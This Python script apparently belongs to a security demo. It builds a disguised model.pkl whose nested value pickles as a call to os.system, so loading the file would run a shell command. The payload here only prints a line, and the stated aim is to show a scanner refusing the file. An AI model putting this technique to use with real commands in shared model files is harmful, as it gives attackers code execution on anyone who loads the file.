#!/usr/bin/env python3
"""make_malicious_pickle.py OUT: write the demo attacker's model.pkl. NEVER LOAD THE OUTPUT.

The file looks like train.py's model (the same dict keys), but one value is an object whose
__reduce__ names os.system, so pickle.load would run a shell command while rebuilding it.
Pickle writes os.system under the module that defines it (posix.system on Linux and macOS,
nt.system on Windows). The command only prints a line, but nothing here ever unpickles the
file: the demo shows that `intoto scan-pickle` and the verifier refuse it first.

Exit status: 0 written; 2 bad usage or the file cannot be written.
"""
import os
import pickle
import sys

PAYLOAD = "echo 'this model.pkl just ran a shell command' >&2"


class RunsACommand:
    """Pickles as a call to os.system(PAYLOAD); never instantiated by a loader we control."""

    def __reduce__(self):
        return (os.system, (PAYLOAD,))


def main(argv):
    if len(argv) != 1:
        print("usage: make_malicious_pickle.py OUT", file=sys.stderr)
        return 2
    model = {
        "format": "intoto-demo/gaussian-nb/1",
        "label": "species",
        "features": ["sepal_length", "sepal_width", "petal_length", "petal_width"],
        # Nested one level down, where a check of the top-level type alone would not look.
        "classes": ["setosa", "versicolor", RunsACommand()],
    }
    try:
        with open(argv[0], "wb") as f:
            pickle.dump(model, f, protocol=4)
    except OSError as error:
        print("make_malicious_pickle: cannot write %s: %s" % (argv[0], error.strerror or error), file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
